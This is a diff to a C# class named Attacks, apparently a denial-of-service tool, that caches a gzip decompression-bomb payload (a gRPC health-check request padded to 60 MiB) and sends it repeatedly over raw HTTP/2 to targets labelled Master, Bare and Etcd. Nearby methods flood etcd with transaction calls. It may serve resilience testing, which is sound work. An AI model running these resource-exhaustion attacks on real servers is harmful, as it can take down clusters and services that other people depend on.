@@ -19,6 +19,9 @@ internal static class Attacks
     private const int UnpackedBytes = 60 * Mebi;
     private const uint LargestWindow = int.MaxValue;
 
+    /// <summary>Made once, by whoever comes first: it takes longer than to send it.</summary>
+    private static readonly Lazy<byte[]> Packed = new(Pack);
+
     private static readonly VictimKind[] Everybody = [VictimKind.Master, VictimKind.Bare, VictimKind.Etcd];
 
     /// <summary>All of them.</summary>
@@ -95,7 +98,10 @@ internal static class Attacks
         return Repeat(victim, RawHttp2.Call(1, "/etcdserverpb.KV/Txn", txn.ToByteArray()), over);
     }
 
-    private static long SendGzip(Victim victim, CancellationToken over)
+    private static long SendGzip(Victim victim, CancellationToken over) =>
+        Repeat(victim, RawHttp2.Call(1, victim.TextPath, Packed.Value, isGzip: true), over);
+
+    private static byte[] Pack()
     {
         using var packed = new MemoryStream();
         using (var gzip = new GZipStream(packed, CompressionLevel.Optimal, leaveOpen: true))
@@ -104,7 +110,7 @@ internal static class Attacks
             gzip.Write(new HealthCheckRequest { Service = new string('a', UnpackedBytes) }.ToByteArray());
         }
 
-        return Repeat(victim, RawHttp2.Call(1, victim.TextPath, packed.ToArray(), isGzip: true), over);
+        return packed.ToArray();
     }
 
     private static long NamePipes(Victim victim, CancellationToken over)
